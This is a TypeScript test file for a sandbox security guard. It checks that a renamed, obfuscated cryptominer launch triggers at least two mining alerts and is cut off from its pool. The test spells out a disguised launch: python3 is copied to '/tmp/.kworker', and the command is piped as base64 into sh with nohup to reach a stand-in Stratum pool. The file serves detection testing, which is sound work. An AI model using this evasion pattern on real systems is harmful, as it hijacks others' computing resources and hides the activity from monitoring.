// A renamed Stratum miner, launched through base64 into sh and nohup, is detected by at least two
// independent signals, each naming the step that started it; block mode cuts it off the pool.
import { after, before, it } from 'node:test';
import * as assert from 'node:assert/strict';
import { bash, startGuardWorld, summary, waitForAlerts, type GuardWorld } from './guard-harness.js';
import { MINER_PY, WALLET } from './miner-script.js';

let world: GuardWorld;
before(async () => {
  world = await startGuardWorld();
});
after(() => world.close());

it('a renamed, obfuscated Stratum miner raises independent mining alerts on its step', async () => {
  // The pool's domain is allowed: only the guard stands between the miner and the pool.
  const sandbox = await world.backend.create({ allowDomains: ['pool.example.test'], cpus: 1 });
  await sandbox.writeFile('/tmp/.cache/m.py', MINER_PY);
  await bash(sandbox, 'echo preparing the build');
  const launch = `cp "$(command -v python3)" /tmp/.kworker && nohup /tmp/.kworker /tmp/.cache/m.py -o stratum+tcp://pool.example.test:3333 -u ${WALLET} --run-seconds 20 >/dev/null 2>&1 &`;
  const encoded = Buffer.from(launch).toString('base64');
  const started = await bash(sandbox, `echo ${encoded} | base64 -d | sh`);
  assert.equal(started.exitCode, 0, started.out);

  const alerts = await waitForAlerts(world, sandbox, (all) => new Set(all.filter((a) => a.technique === 'T1496').map((a) => a.ruleId)).size >= 2);
  const mining = alerts.filter((a) => a.technique === 'T1496');
  const rules = new Set(mining.map((a) => a.ruleId));
  assert.ok(rules.size >= 2, `two independent mining signals: ${summary(alerts)}`);
  for (const a of mining) assert.equal(a.step, started.step, `alert ${a.ruleId} names the launching step: ${summary(alerts)}`);
  const kinds = new Set(mining.flatMap((a) => a.evidence.map((e) => e.kind)));
  assert.ok(kinds.size >= 2, `signals come from different sources: ${[...kinds].join(', ')}`);
  await world.guard.settle();
  assert.ok(world.guard.actions(sandbox.id).some((a) => a.action === 'kill-tree' || a.action === 'deny-stream'));
  assert.ok(world.fakes.received.pool < 200, `the pool got at most the first message: ${world.fakes.received.pool} bytes`);
});
